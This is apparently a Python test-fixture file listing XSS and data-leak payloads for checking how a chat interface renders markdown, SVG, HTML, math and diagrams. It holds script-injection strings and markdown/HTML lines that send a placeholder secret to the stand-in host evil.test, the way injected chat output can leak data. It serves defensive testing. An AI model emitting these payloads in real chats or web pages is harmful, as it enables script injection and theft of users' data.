"""What has run script in, or carried data out of, other chats: through markdown, SVG, HTML, links and images.

The families follow published advisories: diagrams with handlers, custom tags, entity and case tricks, URLs of odd
schemes, markup that breaks out of attributes, and every form in which markdown can name an address.
"""

# ruff: noqa: E501

EVIL = "https://evil.test/?q=SECRET"

SCRIPTS = [
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "<ScRiPt>window.owned=1</sCrIpT>",
    "<a href=javascript:window.owned=1>x</a>",
    "[x](javascript:window.owned=1)",
    "[x](JaVaScRiPt:window.owned=1)",
    "[x](java&#x0A;script:window.owned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:window.owned=1)",
    "<javascript:window.owned=1>",
    "[x]: javascript:window.owned=1\n\n[x]",
    "![x](javascript:window.owned=1)",
    '![x](https://evil.test/"onerror="window.owned=1)',
    '[x](https://ok.test "onmouseover="window.owned=1")',
    "![x\" onerror=\"window.owned=1](https://evil.test/a)",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=window.owned=1>\"]\n```",
    "```<img src=x onerror=window.owned=1>\nx\n```",
    "```html\n<script>window.owned=1</script>\n```",
    "    <script>window.owned=1</script>",
    "`<img src=x onerror=window.owned=1>`",
    "$<img src=x onerror=window.owned=1>$",
    '$\\href{javascript:window.owned=1}{x}$ and $"onmouseover="window.owned=1$',
    "$$\n\\htmlData{x=y}{z} \\url{javascript:window.owned=1} \\includegraphics{https://evil.test/x}\n$$",
    "| <img src=x onerror=window.owned=1> | b |\n|---|---|\n| <svg onload=window.owned=1> | [x](javascript:window.owned=1) |",
    "[^1]\n\n[^1]: <img src=x onerror=window.owned=1>",
    '[^"><img src=x onerror=window.owned=1>]\n\n[^"><img src=x onerror=window.owned=1>]: x',
    "- [ ] <img src=x onerror=window.owned=1>\n- [x] <script>window.owned=1</script>",
    "# <img src=x onerror=window.owned=1>",
    "&lt;img src=x onerror=window.owned=1&gt; &#60;script&#62;window.owned=1&#60;/script&#62;",
    "<<script>script>window.owned=1<</script>/script>",
    "<artifact type='text/html'><script>window.owned=1</script></artifact>",
    "<lobeArtifact><svg onload=window.owned=1></lobeArtifact>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<base href=https://evil.test/><link rel=stylesheet href=https://evil.test/x.css>",
    "<form action=https://evil.test><button>x</button></form>",
    "<div data-controller='act composer' data-joins id=transcript>x</div>",
]  # fmt: skip

LEAKS = [
    f"![x]({EVIL})",
    f"![x](<{EVIL}>)",
    f"![x][e]\n\n[e]: {EVIL}",
    f"[![x]({EVIL})](https://ok.test)",
    "![x](//evil.test/?q=SECRET)",
    "![x](\\\\evil.test\\x)",
    "![x](https:evil.test/x)",
    "![x](HTTPS://EVIL.TEST/x)",
    f"<img src={EVIL}>",
    f"<img srcset='{EVIL} 2x'>",
    f"<p style='background:url({EVIL})'>x</p>",
    f"<video poster={EVIL}><source src={EVIL}></video>",
    f"<audio src={EVIL} autoplay>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=prefetch href={EVIL}><link rel=dns-prefetch href=//secret.evil.test>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<{EVIL}>",
    f"| ![x]({EVIL}) | b |\n|---|---|\n| ![y]({EVIL}) | c |",
    f"[^1]\n\n[^1]: ![x]({EVIL})",
    f"> - ![x]({EVIL})\n>   ![y]({EVIL})",
    f"$\\includegraphics{{{EVIL}}}$",
    f"```html\n<img src={EVIL}>\n```",
    "![x](data:image/svg+xml,<svg onload=window.owned=1>)",
    f"![x]({EVIL}",
]  # fmt: skip

PAYLOADS = SCRIPTS + LEAKS
